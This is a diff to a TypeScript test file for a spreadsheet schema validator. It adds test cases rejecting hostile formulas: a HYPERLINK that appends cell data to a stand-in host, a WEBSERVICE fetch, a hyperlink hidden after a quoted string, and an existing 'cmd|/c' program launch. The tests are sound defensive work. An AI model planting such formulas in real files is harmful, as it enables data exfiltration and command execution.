@@ -22,6 +22,12 @@ describe('a sheet on the wire', () => {
   it('comes back as it was', () => {
     expect(sheetSchema.parse(JSON.parse(JSON.stringify(sheet)))).toEqual(sheet);
   });
+
+  it('may reckon with its own cells', () => {
+    const reckoned = withCell({ formula: 'IF(ISNUMBER(A1),ROUND(SUM(A1:A2),2),"ничего (пусто)")' });
+
+    expect(sheetSchema.safeParse(reckoned).success).toBe(true);
+  });
 });
 
 describe('a sheet that is no report’s', () => {
@@ -35,6 +41,12 @@ describe('a sheet that is no report’s', () => {
     ['a formula of another sheet', withCell({ formula: 'Лист1!A1' })],
     ['a formula of another workbook', withCell({ formula: '[1]A1' })],
     ['a formula that starts a program', withCell({ formula: 'cmd|/c' })],
+    ['a formula that opens an address', withCell({ formula: 'HYPERLINK("https://x.test/"&A1,"Далее")' })],
+    [
+      'a formula that fetches from one',
+      withCell({ formula: 'IF(1,_xlfn.WEBSERVICE ("https://x.test"),"")' }),
+    ],
+    ['one after a text that looks like its end', withCell({ formula: '"a""b"&hyperlink(A1)' })],
     ['a text no cell holds', withCell({ value: 'a'.repeat(32_768) })],
     ['a style that is none', withCell({ style: 'loud' })],
     ['a number that is none', withCell({ value: Number.NaN })],
